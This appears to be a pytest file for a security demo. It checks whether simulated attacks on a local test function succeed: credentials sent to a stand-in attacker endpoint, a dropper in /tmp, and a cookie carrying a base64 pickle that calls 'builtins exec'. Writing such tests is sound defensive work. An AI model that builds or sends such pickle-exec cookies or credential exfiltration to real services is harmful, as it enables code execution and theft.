"""The function demo's attackers and visitors, without a function: what they send and take for success."""

import base64
import pickle
import pickletools
from collections.abc import Iterator

import pytest
import requests

from demo.function import attacks, visitors
from demo.function.loopback import Neighbours, neighbours


@pytest.fixture
def us(monkeypatch: pytest.MonkeyPatch) -> Iterator[Neighbours]:
    monkeypatch.setattr(attacks, "PROOF_SECONDS", 0.0)
    with neighbours() as opened:
        yield opened


@pytest.mark.parametrize("attack", attacks.ATTACKS, ids=lambda attack: attack.name)
def test_silence_is_no_success(attack: attacks.Attack, us: Neighbours) -> None:
    assert not attack.worked(us, "an ordinary page")


def test_what_reaches_the_attacker_is_success(us: Neighbours) -> None:
    by_name = {attack.name: attack for attack in attacks.ATTACKS}
    requests.post(f"{us.attacker}/curl", data=attacks.SECRET, timeout=5)
    assert by_name["credentials leave by curl"].worked(us, "")
    assert not by_name["a dropper in /tmp"].worked(us, "")


def test_the_cookie_is_a_pickle_that_asks_for_exec(us: Neighbours) -> None:
    event = next(attack.event(us) for attack in attacks.ATTACKS if "pickle" in attack.name)
    words = [argument for _, argument, _ in pickletools.genops(base64.b64decode(event["headers"]["cookie"]))]
    assert "builtins exec" in words


def test_visitors_know_the_right_answers_from_wrong_ones(us: Neighbours) -> None:
    visits = list(visitors.visits(us, 2))
    assert {event["rawPath"] for event, _ in visits} == {"/prices", "/invoice", "/basket", "/preview"}
    for event, right in visits:
        if event["rawPath"] != "/basket":
            assert not right("something else")
    basket = next(right for event, right in visits if event["rawPath"] == "/basket")
    cookie = base64.b64encode(pickle.dumps(["saddle"])).decode()
    assert basket(f'{{"things": ["saddle"], "cookie": "{cookie}"}}')
